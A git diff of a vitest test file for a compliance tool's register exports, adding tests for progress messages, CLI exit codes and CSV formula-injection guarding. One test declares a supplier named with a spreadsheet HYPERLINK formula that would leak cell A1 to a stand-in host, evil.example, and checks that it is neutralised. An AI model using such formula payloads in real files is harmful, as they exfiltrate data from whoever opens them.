@@ -1,28 +1,32 @@
 import { createHash } from 'node:crypto';
 import { existsSync, readFileSync, writeFileSync } from 'node:fs';
-import { readFile, readdir } from 'node:fs/promises';
+import { readFile, readdir, rm } from 'node:fs/promises';
 import path from 'node:path';
 import { PassThrough } from 'node:stream';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
-import { asc, eq } from 'drizzle-orm';
+import { asc, eq, sql } from 'drizzle-orm';
 import {
   aiTools, auditEvents, auditFindings, interestedParties, controls, evidenceFileChunks, evidenceItems, evidenceRequests, managementReviews, people, poamExtensions, poamItems,
   policyAcknowledgements, policyVersions, reviewDecisions, riskAcceptances, risks, scopeChanges, suppliers, trainingAttestations, trainingCourses,
 } from '../src/db/schema/index.js';
 import { createTestDatabase, type TestDatabase } from './helpers/db.js';
 import { chatSession } from './helpers/chat-exports.js';
+import { createTestBot, type TestBot } from './helpers/bot.js';
 import { answerTo, exampleRegister, pipedSession, runScript, type Register } from './helpers/process.js';
 import { renderMessage } from '../adapters/slack/render.js';
 import { cardActivity } from '../adapters/teams/cards.js';
 import { loadExampleOrganisation } from '../src/import/example.js';
 import { buildRouter } from '../src/commands.js';
 import type { CommandRouter } from '../src/core/router.js';
-import { toPlainText, type Block } from '../src/core/reply.js';
+import { toPlainText, type Block, type Reply } from '../src/core/reply.js';
 import { ARTEFACTS } from '../src/domain/exports/artefacts.js';
 import { csvText, writeExport, type ExportFormat } from '../src/domain/exports/write.js';
 import { artefactDoc } from '../src/domain/exports/docs.js';
+import { PROGRESS_AFTER_ROWS } from '../src/domain/exports/command.js';
+import { InboundPipeline } from '../src/core/inbound.js';
+import { createLogger } from '../src/log.js';
 import type { Artefact, Row } from '../src/domain/exports/artefact.js';
 
 /** A value that needs every kind of CSV quoting, and non-ASCII text. */
@@ -181,6 +185,8 @@ describe('exports of the example organisation', () => {
   it('documents every column of every artefact in docs/exports.md, linked from the README', async () => {
     const docs = await readFile(path.join(import.meta.dirname, '../docs/exports.md'), 'utf8');
     for (const artefact of ARTEFACTS) expect(docs).toContain(artefactDoc(artefact));
+    expect(docs).toContain(`An export past ${PROGRESS_AFTER_ROWS.toLocaleString('en')} rows says once`);
+    expect(docs).toContain('A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading apostrophe');
     expect(await readFile(path.join(import.meta.dirname, '../README.md'), 'utf8')).toContain('(docs/exports.md)');
   });
 });
@@ -197,6 +203,65 @@ describe('a register bigger than one page', () => {
     expect(jsonOf(await exportBytes(t.db, parties, 'json')).rows.map((r) => r.name)).toEqual(names);
     expect((parse(await exportBytes(t.db, parties, 'csv')) as string[][]).slice(1).map((r) => r[0])).toEqual(names);
     expect((await sheetsOf(await exportBytes(t.db, parties, 'xlsx'))).getWorksheet('Interested parties')!.rowCount).toBe(names.length + 1);
+  });
+});
+
+describe('exports made in chat', () => {
+  let bot: TestBot;
+  const written: string[] = [];
+  beforeAll(async () => { bot = await createTestBot(); });
+  afterAll(async () => {
+    await bot?.destroy();
+    for (const file of written) await rm(path.dirname(file), { recursive: true, force: true });
+  });
+  const fileOf = (answer: Reply) => {
+    const file = answer.blocks.find((b): b is Extract<Block, { type: 'file' }> => b.type === 'file')!.file;
+    written.push(file.path);
+    return file;
+  };
+
+  it('tells the person once that a long export is on its way, and says nothing about a small one', async () => {
+    const pipeline = new InboundPipeline(bot.t.db, bot.router, createLogger('silent'));
+    const [lead] = await bot.t.db.select().from(people).where(eq(people.id, bot.ids.lead));
+    const progress = vi.fn(async (_message: string) => {});
+    const exportParties = async () => (await pipeline.handle({
+      from: { person: lead }, channel: 'test', request: { line: '/isms export interested-parties csv' }, progress,
+    })).reply;
+    const addParties = (n: number) => bot.t.db.execute(sql`insert into ${interestedParties} (name, kind) select 'Party ' || g, 'customer' from generate_series(1, ${n}::int) g`);
+
+    await addParties(3);
+    expect(toPlainText(await exportParties())).toContain('Interested parties (CSV, 3 rows)');
+    expect(progress).not.toHaveBeenCalled();
+
+    await addParties(PROGRESS_AFTER_ROWS + 1 - 3);
+    const long = await exportParties();
+    expect(fileOf(long).title).toBe(`Interested parties (CSV, ${PROGRESS_AFTER_ROWS + 1} rows)`);
+    expect(progress).toHaveBeenCalledTimes(1);
+    expect(progress).toHaveBeenCalledWith('Your export of Interested parties is on its way: over 5,000 rows so far; the file follows when it is complete.');
+  });
+
+  it('writes text a spreadsheet would run as a formula behind an apostrophe in CSV, and as plain text in XLSX and JSON', async () => {
+    const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"invoice")';
+    expect((await bot.say('staff', `/isms declare supplier '${hostile}' "office printing" --ict no --critical no --data internal`)).outcome).toBe('recorded');
+    expect((await bot.say('staff', `/isms declare ai '@SUM(1+1)' "-2 drafts a day" --data internal --users 3`)).outcome).toBe('recorded');
+
+    const supplierCsv = parse(readFileSync(fileOf(await bot.say('lead', '/isms export suppliers csv')).path)) as string[][];
+    expect(supplierCsv[1][supplierCsv[0].indexOf('Name')]).toBe(`'${hostile}`);
+    const aiCsv = parse(readFileSync(fileOf(await bot.say('lead', '/isms export ai-tools csv')).path)) as string[][];
+    expect(aiCsv[1][aiCsv[0].indexOf('Name')]).toBe("'@SUM(1+1)");
+    expect(aiCsv[1][aiCsv[0].indexOf('Purpose')]).toBe("'-2 drafts a day");
+    // A number is never taken for a formula, negative or not; only text is guarded.
+    expect([csvText(-2), csvText('+49 30 1234'), csvText('\tx'), csvText('\rx'), csvText('a=b')]).toEqual(['-2', "'+49 30 1234", "'\tx", "'\rx", 'a=b']);
+
+    // exceljs writes a string cell as a string, never a formula, so XLSX needs no guard.
+    const book = await sheetsOf(readFileSync(fileOf(await bot.say('lead', '/isms export suppliers xlsx')).path));
+    const sheet = book.getWorksheet('Supplier register')!;
+    const cell = sheet.getRow(2).getCell(headerRow(sheet).indexOf('Name') + 1);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(hostile);
+    expect(cell.formula).toBeUndefined();
+
+    expect(jsonOf(readFileSync(fileOf(await bot.say('lead', '/isms export suppliers json')).path)).rows[0].name).toBe(hostile);
   });
 });
 
@@ -230,22 +295,22 @@ describe('npm run isms -- export', () => {
     expect((parse(readFileSync(file)) as string[][])[1][0]).toBe('R-0001');
   });
 
-  it('answers an unknown artefact, a bad format or date with one sentence and no stack, and writes nothing', async () => {
-    const cases: [string[], RegExp][] = [
-      [['export', 'risk', '--format', 'csv'], /^There is no artefact "risk"\. Did you mean "risks"\?\nThe artefacts are all, risks, /],
-      [['export', 'risks', '--format', 'pdf'], /^There is no format "pdf": use csv, json or xlsx\.\n$/],
-      [['export', 'risks', '--from', '2026-02-30'], /^--from "2026-02-30" is not a date: write it as YYYY-MM-DD, e\.g\. 2026-01-31\.\n$/],
-      [['export', 'all', '--format', 'csv'], /^"export all" makes one workbook with a sheet per artefact, so it is XLSX only\./],
+  it('answers an unknown artefact, a bad format or date with one sentence and no stack (a usage error, status 2), and writes nothing', async () => {
+    const cases: [string[], RegExp, number][] = [
+      [['export', 'risk', '--format', 'csv'], /^There is no artefact "risk"\. Did you mean "risks"\?\nThe artefacts are all, risks, /, 2],
+      [['export', 'risks', '--format', 'pdf'], /^There is no format "pdf": use csv, json or xlsx\.\n$/, 2],
+      [['export', 'risks', '--from', '2026-02-30'], /^--from "2026-02-30" is not a date: write it as YYYY-MM-DD, e\.g\. 2026-01-31\.\n$/, 2],
+      [['export', 'all', '--format', 'csv'], /^"export all" makes one workbook with a sheet per artefact, so it is XLSX only\./, 2],
     ];
     writeFileSync(path.join(register.cwd, 'not-a-folder'), '');
     cases.push([['export', 'risks', '--out', path.join(register.cwd, 'not-a-folder', 'risks.csv')],
-      /^Cannot write the export to ".*not-a-folder\/risks\.csv": part of its path is a file, not a folder\.\nName a file in a folder you may write to with --out, or set ISMS_EXPORT_DIR\.\n$/]);
-    for (const [args, message] of cases) {
+      /^Cannot write the export to ".*not-a-folder\/risks\.csv": part of its path is a file, not a folder\.\nName a file in a folder you may write to with --out, or set ISMS_EXPORT_DIR\.\n$/, 1]);
+    for (const [args, message, status] of cases) {
       const result = await runScript('src/cli.ts', args, { env: register.env, cwd: register.cwd });
-      expect(result.code).toBe(1);
+      expect(result.code).toBe(status);
       expect(result.stderr).toMatch(message);
       expect(result.stderr).not.toMatch(/\n\s+at /);
     }
     expect(existsSync(path.join(register.cwd, 'exports'))).toBe(false);
-  });
+  }, 120_000); // five processes
 });
